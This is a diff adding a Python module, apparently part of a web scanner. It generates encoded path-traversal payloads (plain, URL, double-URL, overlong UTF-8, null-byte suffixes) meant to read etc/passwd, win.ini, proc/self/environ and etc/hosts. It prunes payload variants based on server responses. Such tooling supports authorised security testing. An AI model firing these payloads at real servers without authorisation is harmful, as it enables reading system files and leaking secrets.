@@ -0,0 +1,139 @@
+from collections import defaultdict
+
+# Signature name (see LFI_SIGNATURES) -> file that should produce it
+TARGET_FILES = {
+    "passwd": "etc/passwd",
+    "win.ini": "windows/win.ini",
+    "environ": "proc/self/environ",
+    "hosts": "etc/hosts",
+}
+
+# Encoding -> (one "../" step, path separator)
+ENCODINGS = {
+    "plain": ("../", "/"),
+    "url": ("%2e%2e%2f", "%2f"),
+    "double-url": ("%252e%252e%252f", "%252f"),
+    "utf8-overlong": ("%c0%ae%c0%ae%c0%af", "%c0%af"),
+}
+
+SUFFIXES = ("", "%00", "%00.html")
+
+MAX_DEPTH = 8
+MAX_REQUESTS = 48  # hard cap per target, whatever the pruning manages
+PRUNE_SAMPLES = 3  # alike failures needed before an encoding or depth is dropped
+MAX_OUTLIERS = 1  # failures that may differ from the rest without keeping the key alive
+LENGTH_SLACK = 64  # bodies within this many bytes, or LENGTH_TOLERANCE of their size, count as alike
+LENGTH_TOLERANCE = 0.05
+ENCODING_SPREAD = 1  # ... spread over this many depths for an encoding; the deepest stands in for the rest
+DEPTH_SPREAD = 3  # ... or this many encodings for a depth
+
+
+class Variant:
+    def __init__(self, file, encoding, depth, suffix):
+        self.file = file
+        self.encoding = encoding
+        self.depth = depth
+        self.suffix = suffix
+        step, sep = ENCODINGS[encoding]
+        self.payload = step * depth + TARGET_FILES[file].replace("/", sep) + suffix
+
+
+class PayloadCorpus:
+    """Lazily generated traversal payloads that prune themselves on feedback.
+
+    Depths are tried deepest first, since surplus "../" steps stop at the
+    filesystem root, so a shallower depth rarely works where a deeper one failed.
+    Within a suffix, an encoding whose deepest probes fail alike (same status,
+    similar length), or a depth that fails alike across several encodings, is
+    skipped from then on; a single odd response does not keep it
+    alive. A file is not tried again once a variant has read it, and no more
+    than max_requests payloads are handed out. Iterate lazily and feed every
+    finding back through record().
+
+    While the in-flight results could still prune an encoding or depth, its
+    variants are held back and other ones are handed out instead, so a wide
+    concurrency window does not send what those results would have skipped.
+    """
+
+    def __init__(self, max_depth=MAX_DEPTH, files=None, max_requests=MAX_REQUESTS):
+        self.max_depth = max_depth
+        self.max_requests = max_requests
+        self.files = [f for f in (files or TARGET_FILES) if f in TARGET_FILES]
+        self.order = {}
+        self._variants = {}
+        self._failures = defaultdict(list)  # (dimension, value, suffix) -> [(fingerprint, other value)]
+        self._sent = defaultdict(list)  # same keys -> other values of every payload handed out
+        self._in_flight = defaultdict(int)
+        self._pruned = set()
+        self._varied = set()  # keys whose failures disagree beyond MAX_OUTLIERS
+        self._confirmed = set()
+
+    def __iter__(self):
+        remaining = [Variant(file, encoding, depth, suffix)
+                     for suffix in SUFFIXES
+                     for encoding in ENCODINGS
+                     for depth in range(self.max_depth, 0, -1)
+                     for file in self.files]
+        while len(self.order) < self.max_requests:
+            remaining = [v for v in remaining if not self._skip(v)]
+            if not remaining:
+                return
+            # Nothing can wait for a result here, so when every variant is held back the first one goes
+            variant = next((v for v in remaining if not self._held_back(v)), remaining[0])
+            remaining.remove(variant)
+            self.order[variant.payload] = len(self.order)
+            self._variants[variant.payload] = variant
+            for key, other, _ in self._keys(variant):
+                self._sent[key].append(other)
+                self._in_flight[key] += 1
+            yield variant.payload
+
+    @staticmethod
+    def _keys(variant):
+        """(key, other value, spread) for the encoding and the depth of a variant."""
+        return [(("encoding", variant.encoding, variant.suffix), variant.depth, ENCODING_SPREAD),
+                (("depth", variant.depth, variant.suffix), variant.encoding, DEPTH_SPREAD)]
+
+    def _skip(self, variant):
+        return variant.file in self._confirmed or any(key in self._pruned for key, _, _ in self._keys(variant))
+
+    def _held_back(self, variant):
+        """True while results still in flight could prune this variant's encoding or depth."""
+        for key, _, spread in self._keys(variant):
+            sent = self._sent[key]
+            if (key not in self._varied and self._in_flight[key]
+                    and len(sent) >= PRUNE_SAMPLES and len(set(sent)) >= spread):
+                return True
+        return False
+
+    def record(self, finding):
+        """Feed back one finding produced for a payload from this corpus."""
+        variant = self._variants.get(finding["payload"])
+        if variant is None:
+            return
+        for key, _, _ in self._keys(variant):
+            self._in_flight[key] -= 1
+        if variant.file in finding.get("detected", ()):
+            self._confirmed.add(variant.file)
+            return
+        fingerprint = ("error",) if "error" in finding else (finding["status_code"], finding["length"])
+        # Suffixes are pruned separately: a null byte can succeed where the bare path failed
+        for key, other, spread in self._keys(variant):
+            self._fail(key, fingerprint, other, spread)
+
+    @staticmethod
+    def _alike(a, b):
+        if a[0] == "error" or b[0] == "error":
+            return a == b
+        slack = max(LENGTH_SLACK, LENGTH_TOLERANCE * max(a[1], b[1]))
+        return a[0] == b[0] and abs(a[1] - b[1]) <= slack
+
+    def _fail(self, key, fingerprint, other, spread):
+        failures = self._failures[key]
+        failures.append((fingerprint, other))
+        # The largest group of failures alike to one of them; the rest are outliers
+        group = max(([g for g in failures if self._alike(f, g[0])] for f, _ in failures), key=len)
+        if len(failures) - len(group) > MAX_OUTLIERS:
+            self._varied.add(key)
+        elif len(group) >= PRUNE_SAMPLES and len({o for _, o in group}) >= spread:
+            self._pruned.add(key)